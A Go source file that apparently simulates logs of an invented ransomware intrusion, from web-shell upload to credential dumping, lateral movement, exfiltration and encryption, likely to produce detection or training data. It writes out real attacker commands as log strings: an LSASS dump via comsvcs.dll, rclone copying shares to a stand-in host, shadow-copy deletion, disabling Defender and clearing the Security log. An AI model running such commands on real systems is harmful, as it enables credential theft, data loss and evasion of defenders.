package main

import (
	"fmt"
	"time"
)

// Names in the story of somebody unknown: all invented, and found in no report.
const (
	strangerShell   = "helpdesk-form.aspx"
	strangerGuest   = "203.0.113.61"
	strangerPlace   = `C:\Users\Public\Music\`
	strangerProgram = `C:\Windows\Temp\update-agent.exe`
)

var (
	strangerAccount = account{"svc-monitor", 2411}
	stolenAccount   = finance
)

// tellUnknown is an intrusion with the stages of the record and what anybody
// has at hand: other names, other ways, no file or address that a report has.
// It takes six weeks.
func tellUnknown(size scale) *story {
	s := newStory(size)
	s.strangerEnters()
	s.strangerTakesPasswords()
	s.strangerMoves()
	s.strangerTakesFiles()
	s.strangerEncrypts()
	return s
}

// strangerEnters: a page is uploaded to the web server, and used.
func (s *story) strangerEnters() {
	t := on(2022, time.May, 30, 19, 4, 12)
	pool := domain + `\` + sharePoint.name
	s.web.serves(t, request{method: "POST", path: "/_layouts/15/Upload.aspx", user: domain + `\` + stolenAccount.name, client: strangerGuest, agent: browser, status: 200,
		sent: 4_411, received: 9_120, taken: 400 * time.Millisecond})
	s.web.writes(t.Add(time.Second), w3wp, layouts+strangerShell, pool)
	for i, command := range []string{"whoami /all", "systeminfo", `net localgroup administrators`, "tasklist /svc"} {
		at := t.Add(time.Duration(2+3*i) * time.Minute)
		s.web.serves(at, request{method: "POST", path: "/_layouts/15/" + strangerShell, client: strangerGuest, agent: browser, status: 200,
			sent: s.web.about(2_000), received: s.web.about(700), taken: 200 * time.Millisecond})
		s.web.start(at.Add(time.Second), process{image: cmd, commandLine: `"cmd.exe" /c ` + command, parent: w3wp, parentCommandLine: poolStart, user: sharePoint, original: "Cmd.Exe"})
	}
	s.firewall.passes(t, flow{from: strangerGuest, to: s.web.address, port: 443, out: 90_000, in: 400_000, taken: 20 * time.Minute})
}

// strangerTakesPasswords: the memory of LSASS is written out with what Windows
// has on board.
func (s *story) strangerTakesPasswords() {
	t := on(2022, time.June, 2, 21, 40, 3)
	s.web.start(t, process{image: `C:\Windows\System32\rundll32.exe`, commandLine: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 ` + strangerPlace + `l.dmp full`,
		parent: cmd, original: "RUNDLL32.EXE"})
	s.web.opensProcess(t.Add(time.Second), `C:\Windows\System32\rundll32.exe`, lsass, 0x1fffff)
	s.web.writes(t.Add(2*time.Second), `C:\Windows\System32\rundll32.exe`, strangerPlace+"l.dmp", systemUser)
}

// strangerMoves: services of remote execution from the web server, an account
// to come back with, a list of the domain.
func (s *story) strangerMoves() {
	for i, h := range []*host{s.directory, s.file, s.print} {
		t := on(2022, time.June, 3, 20, 11+9*i, 40)
		h.logon(t, tierOne, 3, s.web.address)
		h.installsService(t.Add(4*time.Second), "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "user mode service")
		s.firewall.passes(t, flow{from: s.web.address, to: h.address, port: 445, out: 400_000, in: 60_000, taken: time.Minute})
	}
	t := on(2022, time.June, 3, 20, 50, 2)
	s.directory.createsAccount(t, tierOne, strangerAccount)
	s.directory.addsMember(t.Add(20*time.Second), 4756, tierOne, strangerAccount, "Enterprise Admins", domainSID+"-519")
	for i, command := range []string{`net group "Domain Admins" /domain`, "nltest /domain_trusts", `net view /domain`} {
		s.directory.start(t.Add(time.Duration(2+i)*time.Minute), process{image: cmd, commandLine: "cmd.exe /c " + command, parent: `C:\Windows\PSEXESVC.exe`, user: tierOne, original: "Cmd.Exe"})
	}
}

// strangerTakesFiles: the shares are packed and sent to a store on the web.
func (s *story) strangerTakesFiles() {
	t := on(2022, time.June, 20, 22, 3, 0)
	s.file.logon(t, strangerAccount, 10, s.web.address)
	s.file.start(t.Add(2*time.Minute), process{image: strangerPlace + "rclone.exe", commandLine: `rclone.exe copy D:\Shares store:backup --transfers 12`, parent: cmd, user: strangerAccount, original: "rclone.exe"})
	s.file.asksName(t.Add(2*time.Minute), strangerPlace+"rclone.exe", "store.example.test", "::ffff:203.0.113.190;")
	s.firewall.passes(t.Add(3*time.Minute), flow{from: s.file.address, to: "203.0.113.190", port: 443, out: 41_000_000_000, in: 90_000_000, taken: 6 * time.Hour})
}

// strangerEncrypts, 12 July 2022: Defender off, copies deleted, files encrypted,
// notes, logs cleared.
func (s *story) strangerEncrypts() {
	for i, h := range []*host{s.file, s.print} {
		t := on(2022, time.July, 12, 2, 14+11*i, 30)
		h.logon(t, strangerAccount, 10, s.directory.address)
		h.changesDefender(t.Add(time.Minute), `Real-Time Protection\DisableRealtimeMonitoring`, defenderKey+`\Real-Time Protection\DisableRealtimeMonitoring = 0x0`, "0x1")
		h.defends(t.Add(time.Minute+time.Second), 5001)
		h.start(t.Add(2*time.Minute), process{image: strangerProgram, parent: cmd, user: strangerAccount})
		h.start(t.Add(2*time.Minute+5*time.Second), process{image: `C:\Windows\System32\vssadmin.exe`, commandLine: "vssadmin delete shadows /all /quiet", parent: strangerProgram,
			user: strangerAccount, original: "VSSADMIN.EXE"})
		for folder := range 16 {
			place, at := fmt.Sprintf(`D:\Shares\Department-%02d\`, folder+1), t.Add(time.Duration(130+2*folder)*time.Second)
			h.writes(at, strangerProgram, place+"restore-your-files.txt", domain+`\`+strangerAccount.name)
			for file := range 3 {
				h.writes(at.Add(time.Second), strangerProgram, fmt.Sprintf(`%sreport-%03d.docx.kx7`, place, 3*folder+file), domain+`\`+strangerAccount.name)
			}
		}
		h.start(t.Add(5*time.Minute), process{image: `C:\Windows\System32\wevtutil.exe`, commandLine: "wevtutil cl Security", parent: cmd, user: strangerAccount, original: "wevtutil.exe"})
		h.clears(t.Add(5*time.Minute+time.Second), strangerAccount)
	}
}
